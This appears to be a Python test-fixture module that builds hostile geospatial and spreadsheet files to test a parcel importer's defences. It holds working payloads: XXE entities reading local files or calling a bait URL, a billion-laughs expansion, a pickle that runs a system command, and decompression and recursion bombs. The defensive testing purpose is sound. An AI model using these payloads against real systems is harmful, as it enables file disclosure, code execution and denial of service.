"""How hostile files are made: sound ones with the one thing changed that does the harm."""

import json
import sqlite3
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping, Sequence
from pathlib import Path
from typing import Any, Final

import geopandas as gpd
import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq

from tests.hostile.archives import Maker
from tests.hostile.bait import Bait
from tests.making_files import (
    feature,
    parcels_frame,
    square,
    write_bytes,
    write_csv,
    write_geojson,
    write_xlsx,
    write_zip,
)


def raw(name: str, content: Callable[[], bytes]) -> Maker:
    """A file of these bytes."""
    return lambda folder, bait: write_bytes(folder / name, content())


def late(make: Callable[[], Maker]) -> Maker:
    """A maker whose content is too large to be kept ready."""
    return lambda folder, bait: make()(folder, bait)


def shaped(*rings: Any, kind: str = "Polygon") -> Maker:
    """A GeoJSON file with one geometry of these coordinates."""
    return lambda folder, bait: write_geojson(
        folder / "a.geojson", feature(0, {"type": kind, "coordinates": list(rings)}), feature(1)
    )


def collection(*features: str) -> Callable[[], bytes]:
    return lambda: f'{{"type":"FeatureCollection","features":[{",".join(features)}]}}'.encode()


def ring(count: int) -> list[list[float]]:
    angle = np.linspace(0, 2 * np.pi, count)
    return np.column_stack([120.4 + 0.01 * np.cos(angle), 36.17 + 0.01 * np.sin(angle)]).round(9).tolist()


def scattered() -> bytes:
    """Twenty thousand features, each with a property of its own name: a square of cells from a line of text."""
    return collection(
        *(f'{{"type":"Feature","geometry":null,"properties":{{"p{number}":1}}}}' for number in range(20_000))
    )()


# --- tables ---------------------------------------------------------------------------------------------------------


def table(header: str, cell: str) -> Maker:
    """Parcels with one more column, one of whose cells is this."""
    rows = [("parcel_no", header, "wkt"), ("A-1", cell, square().wkt), ("A-2", "1", square(1).wkt)]
    return lambda folder, bait: write_csv(folder / "a.csv", rows)


def cell_shape(text: str) -> Maker:
    """Parcels whose first outline is this text."""
    return lambda folder, bait: write_csv(
        folder / "a.csv", [("parcel_no", "wkt"), ("A-1", text), ("A-2", square(1).wkt)]
    )


def workbook(**parts: Callable[[bytes, Bait], bytes]) -> Maker:
    """A sound workbook with parts changed, named as in `PARTS`."""

    def make(folder: Path, bait: Bait) -> Path:
        path = write_xlsx(folder / "a.xlsx", [("parcel_no", "wkt"), ("A-1", square().wkt)])
        with zipfile.ZipFile(path) as packed:
            members = {name: packed.read(name) for name in packed.namelist()}
        for part, change in parts.items():
            name = PARTS[part]
            members[name] = change(members.get(name, b""), bait)
        return write_zip(path, members)

    return make


PARTS: Final = {
    "sheet": "xl/worksheets/sheet1.xml",
    "strings": "xl/sharedStrings.xml",
    "book": "xl/workbook.xml",
    "styles": "xl/styles.xml",
    "links": "xl/_rels/workbook.xml.rels",
    "external": "xl/externalLinks/externalLink1.xml",
    "custom": "customXml/item1.xml",
}
XML: Final = b'<?xml version="1.0" encoding="UTF-8"?>\n'
LAUGHS: Final = (
    b'<!DOCTYPE x [<!ENTITY a "ha">' + b"".join(
        f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">'.encode() for n in range(9)
    ) + b"]>"
)  # fmt: skip


def entity(kind: str, *, utf16: bool = False) -> Callable[[bytes, Bait], bytes]:
    """Put a document type with an entity before a part, and the entity into it."""

    def change(part: bytes, bait: Bait) -> bytes:
        declared = {
            "file": f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{bait.canary}">]>'.encode(),
            "host": f'<!DOCTYPE x [<!ENTITY e SYSTEM "{bait.url}">]>'.encode(),
            "parameter": f'<!DOCTYPE x [<!ENTITY % e SYSTEM "{bait.url}"> %e;]>'.encode(),
            "laughs": LAUGHS.replace(b"<!ENTITY a ", b"<!ENTITY e0 ") + b"",
        }[kind]
        body = part.split(b"?>", 1)[-1]
        text = XML + declared + body.replace(b"A-1", b"&e;").replace(b"<name>a</name>", b"<name>&e;</name>")
        return text.replace(b"UTF-8", b"UTF-16").decode().encode("utf-16") if utf16 else text

    return change


# --- databases ------------------------------------------------------------------------------------------------------


def geopackage(script: str = "", change: Callable[[sqlite3.Connection], object] | None = None) -> Maker:
    """A sound GeoPackage, after these statements."""

    def make(folder: Path, bait: Bait) -> Path:
        path = folder / "a.gpkg"
        parcels_frame().to_file(path, layer="parcels", driver="GPKG")
        base = sqlite3.connect(path)
        base.create_function("ST_IsEmpty", 1, lambda _: 0)
        for name in ("ST_MinX", "ST_MaxX", "ST_MinY", "ST_MaxY"):
            base.create_function(name, 1, lambda _: 0.0)
        base.executescript(bait.fill(script))
        if change is not None:
            change(base)
        base.commit()
        base.close()
        return path

    return make


def blob(wkb: bytes) -> Callable[[sqlite3.Connection], object]:
    """Write one geometry, as it is, into the first record."""
    head = b"GP\0\1" + struct.pack("<i", 4490)
    return lambda base: (
        base.executescript(
            "DROP TRIGGER IF EXISTS rtree_parcels_geom_update6; DROP TRIGGER IF EXISTS rtree_parcels_geom_update7"
        ),
        base.execute("UPDATE parcels SET geom = ? WHERE fid = 1", (head + wkb,)),
    )


def nested(depth: int) -> bytes:
    """A collection of a collection of … a point, in WKB."""
    return struct.pack("<BII", 1, 7, 1) * depth + struct.pack("<BIdd", 1, 1, 120.4, 36.17)


# --- Parquet --------------------------------------------------------------------------------------------------------


def parquet(metadata: Mapping[str, str], shapes: Sequence[bytes] = ()) -> Maker:
    """A Parquet file of three parcels with its own words in the metadata, and other shapes than squares if told."""

    def make(folder: Path, bait: Bait) -> Path:
        outlines = shapes or [square(number).wkb for number in range(3)]
        rows = pa.table({"parcel_no": ["A-0", "A-1", "A-2"], "geometry": outlines})
        told = {name: bait.fill(text).encode() for name, text in metadata.items()}
        pq.write_table(rows.replace_schema_metadata(told), folder / "a.parquet")
        return folder / "a.parquet"

    return make


def pickled(folder: Path, bait: Bait) -> Path:
    """A column whose type carries a pickle that would write into the canary's folder."""
    owned = bait.canary.with_name("owned")
    pickle = b"cposix\nsystem\n(S'touch " + str(owned).encode() + b"'\ntR."
    field = pa.field(
        "parcel_no",
        pa.binary(),
        metadata={"ARROW:extension:name": "arrow.py_extension_type", "ARROW:extension:metadata": pickle},
    )
    pq.write_table(pa.table([pa.array([b"1"])], schema=pa.schema([field])), folder / "a.parquet")
    return folder / "a.parquet"


def repeated(folder: Path, bait: Bait) -> Path:
    """Sixty million equal cells in a few kilobytes."""
    block = pa.table({"parcel_no": pa.array(np.zeros(1_000_000, dtype=np.int8))})
    with pq.ParquetWriter(folder / "a.parquet", block.schema, compression="zstd") as writer:
        for _ in range(60):
            writer.write_table(block)
    return folder / "a.parquet"


def geo(**changes: Any) -> dict[str, str]:
    """Return GeoParquet metadata with members changed."""
    column = {"encoding": "WKB", "geometry_types": []} | changes.pop("column", {})
    return {
        "geo": json.dumps({"version": "1.1.0", "primary_column": "geometry", "columns": {"geometry": column}} | changes)
    }


# --- binary vector files --------------------------------------------------------------------------------------------


def binary(name: str, write: Callable[[Path], object], *changes: tuple[int, bytes]) -> Maker:
    """A sound file with bytes changed at offsets; a negative one counts from the end."""

    def make(folder: Path, bait: Bait) -> Path:
        path = folder / name
        write(path)
        data = bytearray(path.read_bytes())
        for at, value in changes:
            at %= len(data)
            data[at : at + len(value)] = value
        path.write_bytes(data)
        return path

    return make


def flatgeobuf(path: Path) -> None:
    parcels_frame().to_file(path, driver="FlatGeobuf")


def shapefile(path: Path) -> None:
    frame: gpd.GeoDataFrame = parcels_frame().rename(columns={"parcel_no": "DKBH", "parcel_name": "DKMC"})
    frame.to_file(path, driver="ESRI Shapefile")


def png(side: int) -> bytes:
    """A picture of one colour, `side` pixels each way: gigabytes when it is opened."""
    line = bytes(side // 8 + 1)
    deflater = zlib.compressobj(9)
    packed = b"".join(deflater.compress(line) for _ in range(side)) + deflater.flush()

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def kml(body: str, before: str = "") -> Callable[[Bait], bytes]:
    """A KML document with this in it."""
    text = f'<?xml version="1.0" encoding="UTF-8"?>{before}<kml xmlns="http://www.opengis.net/kml/2.2"><Document>{body}</Document></kml>'
    return lambda bait: bait.fill(text).encode()


def kml_file(body: str, before: str = "") -> Maker:
    return lambda folder, bait: write_bytes(folder / "a.kml", kml(body, before)(bait))


def kmz(body: str, **members: bytes) -> Maker:
    def make(folder: Path, bait: Bait) -> Path:
        named = {name.replace("__", "/").replace("_", "."): data for name, data in members.items()}
        return write_zip(folder / "a.kmz", {"doc.kml": kml(body)(bait), **named})

    return make


OUTLINE: Final = " ".join(f"{x:.6f},{y:.6f}" for x, y in square().exterior.coords)
PLACE: Final = (
    "<Placemark><name>A-1</name><Polygon><outerBoundaryIs><LinearRing><coordinates>"
    f"{OUTLINE}</coordinates></LinearRing></outerBoundaryIs></Polygon></Placemark>"
)


def dxf(*pairs: tuple[int, Any], blocks: tuple[tuple[int, Any], ...] = ()) -> Maker:
    """A drawing with these group codes in its entities, and in its blocks."""
    body: list[tuple[int, Any]] = [(0, "SECTION"), (2, "HEADER"), (9, "$ACADVER"), (1, "AC1015"), (0, "ENDSEC")]
    if blocks:
        body += [(0, "SECTION"), (2, "BLOCKS"), *blocks, (0, "ENDSEC")]
    body += [(0, "SECTION"), (2, "ENTITIES"), *pairs, (0, "ENDSEC"), (0, "EOF")]
    text = "".join(f"{code}\n{value}\n" for code, value in body)
    return lambda folder, bait: write_bytes(folder / "a.dxf", bait.fill(text))


INSERT: Final = ((0, "INSERT"), (8, "0"), (2, "B"), (10, 0), (20, 0))
BLOCK: Final = ((0, "BLOCK"), (8, "0"), (2, "B"), (70, 0), (10, 0), (20, 0))


def outline(count: int) -> list[tuple[int, Any]]:
    points = [pair for x, y in ring(count) for pair in ((10, 40_500_000 + (x - 120) * 9e4), (20, y * 1.1e5))]
    return [(0, "LWPOLYLINE"), (100, "AcDbEntity"), (8, "0"), (100, "AcDbPolyline"), (90, count), (70, 1), *points]


def xls_loop() -> bytes:
    """An old workbook whose list of sectors leads back to itself."""
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6)
    head += struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, 0, 1, 0xFFFFFFFE, 0) + struct.pack("<I", 0) + b"\xff" * 432
    return head + struct.pack("<128I", *([0] * 128)) * 3


GUOTU: Final = (
    "[属性描述]\n坐标系=2000国家大地坐标系\n几度分带=3\n投影类型=高斯克吕格\n计量单位=米\n带号=40\n[地块坐标]\n"
)
